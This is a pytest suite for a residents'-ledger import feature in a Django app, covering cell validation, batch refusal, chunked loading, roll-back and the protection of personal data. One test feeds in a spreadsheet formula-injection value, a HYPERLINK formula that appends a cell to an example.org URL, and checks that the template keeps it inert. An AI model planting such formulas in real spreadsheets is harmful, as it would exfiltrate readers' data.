"""Import of a ledger: what a file may be, which rows are wrong and why, load in chunks, roll-back."""

import base64
import io
import zipfile
from collections.abc import Sequence
from datetime import date

import pytest
import python_calamine
import xlsxwriter
import xlwt
from django.db import connection, connections
from django.test.utils import CaptureQueriesContext

from linli.imports import jobs
from linli.imports import operations as imports
from linli.imports.models import ImportBatch, ImportRow
from linli.imports.operations import loading, sheets, uploading
from linli.kernel.errors import Invalid, NotNow, NotPermitted, NotVisible
from linli.kernel.fields import open_sealed
from linli.kernel.jobs import give_up
from linli.kernel.models import LogEntry, Progress
from linli.people import contract as people
from linli.people.models import HouseholdMember, Person, Residence
from linli.people.operations.ledger import LedgerImporter
from linli.people.tests.conftest import World
from linli.people.tests.factories import id_number, worker
from linli.places import contract as places

TITLES = ("小区", "楼栋", "单元", "房号", "房屋状态", "与房屋关系", "姓名", "证件号码", "出生日期", "电话", "与户主关系", "核实日期")


def line(number: int, room: str = "601", name: str = "", **changed: str) -> list[str]:
    row = {
        "小区": "桂苑小区", "楼栋": "3", "单元": "2", "房号": room, "房屋状态": "自住", "与房屋关系": "居住",
        "姓名": name or f"张{number}", "证件号码": id_number(number), "出生日期": "1946-05-12", "电话": f"100000034{number:02d}",
        "与户主关系": "", "核实日期": "2026-08-29",
    }  # fmt: skip
    return list((row | changed).values())


def csv_file(rows: Sequence[Sequence[str]], titles: Sequence[str] = TITLES, encoding: str = "utf-8") -> bytes:
    return "\r\n".join(",".join(row) for row in (titles, *rows)).encode(encoding)


def checked(world: World, content: bytes, name: str = "台账.csv") -> ImportBatch:
    batch = imports.upload(world.worker, "people.ledger", world.place.id, name, content)
    imports.check(world.worker, batch.pk)
    batch.refresh_from_db()
    return batch


def loaded(world: World, content: bytes) -> ImportBatch:
    batch = checked(world, content)
    imports.start_loading(world.worker, batch.pk)
    imports.load(world.worker, batch.pk)
    batch.refresh_from_db()
    return batch


def problems(batch: ImportBatch) -> list[tuple[int, str, str]]:
    rows = batch.rows.filter(state=ImportRow.State.BAD).order_by("number")
    return [(row.number, title, sentence) for row in rows for title, sentence in row.problems]


def good(many: int, first: int = 10) -> list[list[str]]:
    return [line(number, room=f"{number}01") for number in range(first, first + many)]


def test_every_wrong_cell_is_named_by_row_and_column(world: World) -> None:
    short, changed_digit = id_number(2)[:17], id_number(3)[:-1] + ("0" if id_number(3)[-1] != "0" else "1")
    batch = checked(
        world,
        csv_file(
            [
                line(1),
                line(2, 证件号码=short),
                line(3, 证件号码=changed_digit),
                line(4, 楼栋="9"),
                line(5, 小区="别的小区"),
                line(6, 出生日期="1946-13-40"),
                line(7, 单元="7"),
                line(8, 电话="1000000341"),
                line(9, 房屋状态="空置", room="901"),
                line(1),
                line(11, 出生日期="1947-05-12"),
            ]
        ),
    )
    told = problems(batch)
    assert [(number, title) for number, title, _ in told] == [
        (3, "证件号码"), (4, "证件号码"), (5, "楼栋"), (6, "小区"), (7, "出生日期"), (8, "单元"), (9, "电话"), (10, "房屋状态"),
        (11, "证件号码"), (12, "出生日期"),
    ]  # fmt: skip
    assert told[0][2] == "身份证号是 17 位，少了 1 位。"
    assert "第 2 行" in told[8][2]
    assert batch.state == ImportBatch.State.REFUSED
    assert not any(short in sentence or changed_digit in sentence for _, _, sentence in told)


def test_more_than_five_in_a_hundred_refuses_all_and_five_does_not(world: World) -> None:
    batch = checked(world, csv_file([*good(19), line(1, 证件号码="5")]))
    assert (batch.total, batch.bad, batch.state) == (20, 1, ImportBatch.State.READY)
    imports.drop(world.worker, batch.pk)
    batch = checked(world, csv_file([*good(18), line(1, 证件号码="5")]))
    assert batch.state == ImportBatch.State.REFUSED
    with pytest.raises(NotNow):
        imports.start_loading(world.worker, batch.pk)


@pytest.mark.parametrize("area", ["NaN", "-nan", "Infinity", "-inf", "1e999999", "sNaN"])
def test_an_area_that_is_no_number_is_a_wrong_cell(world: World, area: str) -> None:
    titles = (*TITLES, "建筑面积")
    rows = [[*line(1), area], *([*row, "71.4"] for row in good(30))]
    batch = checked(world, csv_file(rows, titles))
    assert batch.state == ImportBatch.State.READY
    assert [(number, title) for number, title, _ in problems(batch)] == [(2, "建筑面积")]


def test_a_check_that_always_fails_ends_with_an_answer_and_the_next_file_may_come(world: World) -> None:
    batch = imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
    with pytest.raises(NotNow, match="还没办完"):
        imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
    stored = jobs.check.in_regions([world.place.id]).stored((batch.pk,), {})
    give_up(jobs.check.title, stored)
    batch.refresh_from_db()
    assert batch.state == ImportBatch.State.REFUSED
    assert batch.outcome == "没核对成，登记没有动"
    assert Progress.objects.get(kind="imports").message == batch.outcome
    assert checked(world, csv_file(good(3))).state == ImportBatch.State.READY
    give_up(jobs.check.title, stored)  # said twice, done once
    assert imports.drop(world.worker, batch.pk).state == ImportBatch.State.DROPPED


def test_a_load_that_always_fails_can_be_gone_on_with_or_taken_back(world: World) -> None:
    batch = checked(world, csv_file(good(3)))
    imports.start_loading(world.worker, batch.pk)
    stored = jobs.load.in_regions([world.place.id]).stored((batch.pk,), {})
    for _ in range(2):  # said twice, done once
        give_up(jobs.load.title, stored)
        batch.refresh_from_db()
        assert batch.state == ImportBatch.State.STOPPED
    assert Progress.objects.get(kind="imports").message == "导入停在半路"
    with pytest.raises(NotNow):
        imports.drop(world.worker, batch.pk)
    imports.start_loading(world.worker, batch.pk)
    imports.load(world.worker, batch.pk)
    batch.refresh_from_db()
    assert (batch.state, batch.loaded) == (ImportBatch.State.DONE, 3)


def test_a_half_loaded_batch_is_taken_back_and_a_roll_back_that_fails_is_begun_again(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loading, "CHUNK", 1)
    batch = checked(world, csv_file(good(3)))
    imports.start_loading(world.worker, batch.pk)
    assert imports.load_chunk(world.worker, batch.pk)
    give_up(jobs.load.title, jobs.load.in_regions([world.place.id]).stored((batch.pk,), {}))
    imports.start_undoing(world.worker, batch.pk)
    give_up(jobs.undo.title, jobs.undo.in_regions([world.place.id]).stored((batch.pk,), {}))
    batch.refresh_from_db()
    assert batch.state == ImportBatch.State.DONE
    assert Person.objects.standing().filter(batch_id=batch.pk).count() == 1
    imports.start_undoing(world.worker, batch.pk)
    imports.undo(world.worker, batch.pk)
    batch.refresh_from_db()
    assert (batch.state, batch.undone) == (ImportBatch.State.UNDONE, 1)
    assert not Person.objects.standing().filter(batch_id=batch.pk).exists()


def test_a_batch_under_check_can_be_given_up_and_the_check_leaves_it(world: World) -> None:
    batch = imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
    imports.drop(world.worker, batch.pk)
    imports.check(world.worker, batch.pk)
    batch.refresh_from_db()
    assert batch.state == ImportBatch.State.DROPPED
    assert not batch.rows.exists()


def test_two_files_of_one_community_are_not_taken_at_once(world: World) -> None:
    other = connections.create_connection("default")
    try:
        with other.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_lock(%s, hashtext(%s))", [uploading.LOCK, str(world.place.id)])
        with pytest.raises(NotNow, match="正在传"):
            imports.upload(world.worker, "people.ledger", world.place.id, "二.csv", csv_file(good(3)))
        with other.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_unlock(%s, hashtext(%s))", [uploading.LOCK, str(world.place.id)])
    finally:
        other.close()
    assert not ImportBatch.objects.exists()
    imports.upload(world.worker, "people.ledger", world.place.id, "二.csv", csv_file(good(3)))


def test_lower_case_x_and_full_width_are_taken(world: World) -> None:
    number = next(n for n in range(1, 49) if id_number(n).endswith("X"))
    wide = "".join(chr(ord(c) + 0xFEE0) for c in id_number(number))
    batch = loaded(world, csv_file([line(number, 证件号码=id_number(number).lower())]))
    assert batch.state == ImportBatch.State.DONE
    assert people.find_by_id(world.worker, wide) == Person.objects.get(batch_id=batch.pk).pk


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_rare_characters_and_dots_survive(world: World, encoding: str) -> None:
    names = ["张𬭎", "㛃䶮", "阿卜杜拉•买买提", "欧阳 明"]
    loaded(world, csv_file([line(n, room=f"{n}02", name=name) for n, name in enumerate(names, 1)], encoding=encoding))
    assert set(Person.objects.values_list("name", flat=True)) == {"张𬭎", "㛃䶮", "阿卜杜拉·买买提", "欧阳明"}


def test_old_and_new_excel_are_read(world: World) -> None:
    old = xlwt.Workbook()
    sheet = old.add_sheet("台账", cell_overwrite_ok=True)
    for y, row in enumerate([list(TITLES), line(1), line(2, room="602")]):
        for x, value in enumerate(row):
            sheet.write(y, x, value)
    sheet.write(2, 3, 602.0)
    out = io.BytesIO()
    old.save(out)
    batch = loaded(world, out.getvalue())
    assert batch.loaded == 2
    assert places.find_house(world.place.building_id, "2", "602") is not None


def test_a_number_kept_as_a_number_is_not_guessed(world: World) -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, TITLES)
        sheet.write_row(1, 0, line(1))
        sheet.write_number(1, TITLES.index("证件号码"), float(id_number(1)[:17] + "0"))
    assert [(title, sentence[:11]) for _, title, sentence in problems(checked(world, out.getvalue(), "台账.xlsx"))] == [
        ("证件号码", "这一格在表里存成了数字")
    ]


def test_files_that_cannot_be_used_say_what_to_do(world: World) -> None:
    wrong = {
        csv_file([line(1)], titles=("小区", "楼栋", "单元", "房号", "吸毒史", *TITLES[5:])): "不能导",
        csv_file([line(1)], titles=("小区", "楼栋", "单元", "门", *TITLES[4:])): "少了这几列：房号",
        b"PK\x03\x04rubbish": "打不开",
        b"\x89PNG\x00\x00": "认不出这个文件",
        b"\xff\xfe\xfd\xfc": "认不出来",
        csv_file([]): "没有数据",
    }
    for content, words in wrong.items():
        with pytest.raises(Invalid, match=words):
            imports.upload(world.worker, "people.ledger", world.place.id, "x.csv", content)
    with pytest.raises(Invalid, match="5,001 行，一次最多 5,000 行"):
        imports.upload(world.worker, "people.ledger", world.place.id, "x.csv", csv_file([line(1)] * 5001))


def test_only_the_keepers_of_the_community_may_upload(world: World) -> None:
    content = csv_file([line(1)])
    with pytest.raises(NotVisible):
        imports.upload(world.worker, "people.ledger", world.other_id, "x.csv", content)
    with pytest.raises(NotPermitted):
        imports.upload(worker(world.place.id, "grid_worker"), "people.ledger", world.place.id, "x.csv", content)


def test_what_the_registry_knows_is_not_imported_twice(world: World) -> None:
    loaded(world, csv_file([line(1, name="王秀英")]))
    batch = checked(world, csv_file([line(1, name="王秀英"), line(1, name="王秀梅", 与房屋关系="产权人"), *good(2)]))
    assert [(number, title) for number, title, _ in problems(batch)] == [(2, "证件号码"), (3, "证件号码"), (3, "姓名")]
    assert "不用再导" in problems(batch)[0][2]


def test_one_person_may_own_one_house_and_live_in_another(world: World) -> None:
    loaded(world, csv_file([line(1, room="601"), line(1, room="602", 与房屋关系="产权人", 房屋状态="出租")]))
    person = Person.objects.get()
    assert {link.kind: link.main for link in person.residences.all()} == {"living": True, "owner": False}
    batch = checked(world, csv_file([line(1, room="603"), *good(1)]))
    assert problems(batch)[0][1] == "与房屋关系"


def test_people_without_a_paper_get_a_number_and_twins_are_two(world: World) -> None:
    twins = [line(n, name=name, 证件号码="", 出生日期="2026-09-01", 电话="") for n, name in ((1, "李一"), (2, "李二"), (3, "李一"))]
    batch = checked(world, csv_file(twins))
    assert batch.bad == 0
    rows = list(batch.rows.order_by("number"))
    assert "可能是同一个人" in rows[2].hints[-1]
    assert len(rows[1].hints) == 1
    imports.start_loading(world.worker, batch.pk)
    imports.load(world.worker, batch.pk)
    numbers = set(Person.objects.values_list("temp_number", flat=True))
    assert len(numbers) == 3
    assert all(number.startswith("LS") for number in numbers)


def test_one_head_a_household(world: World) -> None:
    batch = checked(world, csv_file([line(1, 与户主关系="户主"), line(2, 与户主关系="户主"), *good(30)]))
    assert [(number, title) for number, title, _ in problems(batch)] == [(3, "与户主关系")]
    imports.start_loading(world.worker, batch.pk)
    imports.load(world.worker, batch.pk)
    assert HouseholdMember.objects.count() == 1


def test_a_load_that_was_killed_goes_on_where_it_stood(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loading, "CHUNK", 3)
    batch = checked(world, csv_file(good(8)))
    imports.start_loading(world.worker, batch.pk)
    assert imports.load_chunk(world.worker, batch.pk)
    assert Person.objects.count() == 3
    imports.load(world.worker, batch.pk)
    batch.refresh_from_db()
    assert (batch.state, batch.loaded, Person.objects.count()) == (ImportBatch.State.DONE, 8, 8)
    imports.load(world.worker, batch.pk)
    assert Person.objects.count() == 8


def test_a_batch_can_be_taken_back_and_imported_again(world: World) -> None:
    content = csv_file([*good(4), line(1, 与户主关系="户主"), line(2, 与户主关系="配偶"), line(3, 与房屋关系="产权人", 房屋状态="自住")])
    batch = loaded(world, content)
    assert Residence.objects.standing().count() == 7
    imports.start_undoing(world.worker, batch.pk)
    imports.undo(world.worker, batch.pk)
    batch.refresh_from_db()
    assert (batch.state, batch.undone, batch.kept) == (ImportBatch.State.UNDONE, 7, 0)
    assert not Person.objects.standing().exists()
    assert not Residence.objects.standing().exists()
    assert places.find_house(world.place.building_id, "2", "601") is None
    assert people.find_by_id(world.worker, id_number(1)) is None
    assert loaded(world, content).loaded == 7


def test_what_changed_since_stays_and_is_named(world: World) -> None:
    batch = loaded(world, csv_file(good(3)))
    changed = Person.objects.get(name="张10")
    people.move_out(world.worker, changed.pk, date(2026, 9, 30))
    house = places.find_house(world.place.building_id, "2", "1101")
    assert house is not None
    places.set_house_state(world.worker, house.id, "rented")
    imports.start_undoing(world.worker, batch.pk)
    imports.undo(world.worker, batch.pk)
    batch.refresh_from_db()
    assert (batch.undone, batch.kept) == (2, 1)
    kept = batch.rows.get(state=ImportRow.State.KEPT)
    assert (kept.number, kept.hints) == (2, ["这条人房关系后来改过，没有撤。"])
    assert "房没有撤" in batch.rows.get(number=3).hints[0]
    assert places.find_house(world.place.building_id, "2", "1201") is None


def test_an_import_puts_a_house_back_as_it_was(world: World) -> None:
    places.set_house_state(world.worker, world.place.rooms[0], "rented", checked_on=date(2026, 1, 1))
    batch = loaded(world, csv_file([line(1, room="501")]))
    house = places.house(world.place.rooms[0])
    assert house is not None
    assert house.state == "owner"
    imports.start_undoing(world.worker, batch.pk)
    imports.undo(world.worker, batch.pk)
    house = places.house(world.place.rooms[0])
    assert house is not None
    assert (house.state, house.checked_on) == ("rented", date(2026, 1, 1))


def test_the_error_file_marks_cells_and_can_be_uploaded_again(world: World) -> None:
    batch = checked(world, csv_file([*good(20), line(1, 证件号码="5")]))
    file = base64.b64decode(open_sealed(batch, "error_file"))
    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(file)).get_sheet_by_index(0).to_python()
    assert len(rows) == 2
    assert rows[1][-1] == 22
    assert "少了 17 位" in str(rows[1][-2])
    imports.drop(world.worker, batch.pk)
    assert checked(world, file, "要改的行.xlsx").total == 1


def test_the_template_is_a_file_that_can_be_filled(world: World) -> None:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sheets.template_sheet(LedgerImporter(), {"compound": ["桂苑小区"]})))
    assert book.get_sheet_by_index(0).to_python()[0][:4] == ["小区", "楼栋", "单元", "房号"]


def test_a_compound_named_like_a_formula_stays_a_text_in_the_template(world: World) -> None:
    name = '=HYPERLINK("http://example.org/?"&A1,"点我")'
    with zipfile.ZipFile(
        io.BytesIO(sheets.template_sheet(LedgerImporter(), {"compound": [name, "http://example.org/", "桂苑小区"]}))
    ) as parts:
        pages = [parts.read(part).decode() for part in parts.namelist() if part.startswith("xl/worksheets/")]
        texts = parts.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in page or "hyperlink" in page for page in pages)
    assert "HYPERLINK" in texts


def test_nothing_personal_stands_in_the_open(world: World) -> None:
    batch = loaded(world, csv_file([line(1, name="王秀英")]))
    with connection.cursor() as cursor:
        cursor.execute("SELECT string_agg(r::text, '') FROM people_importrow r")
        stored = cursor.fetchone()[0]
    logs = str(list(LogEntry.objects.values_list("payload", flat=True)))
    for secret in (id_number(1), "10000003401", "王秀英"):
        assert secret not in stored
        assert secret not in logs
    assert batch.loaded == 1


def test_the_number_of_queries_does_not_grow_with_the_chunk(world: World) -> None:
    batch = checked(world, csv_file(good(30)))
    imports.start_loading(world.worker, batch.pk)
    with CaptureQueriesContext(connection) as seen:
        imports.load_chunk(world.worker, batch.pk)
    assert len(seen) < 60
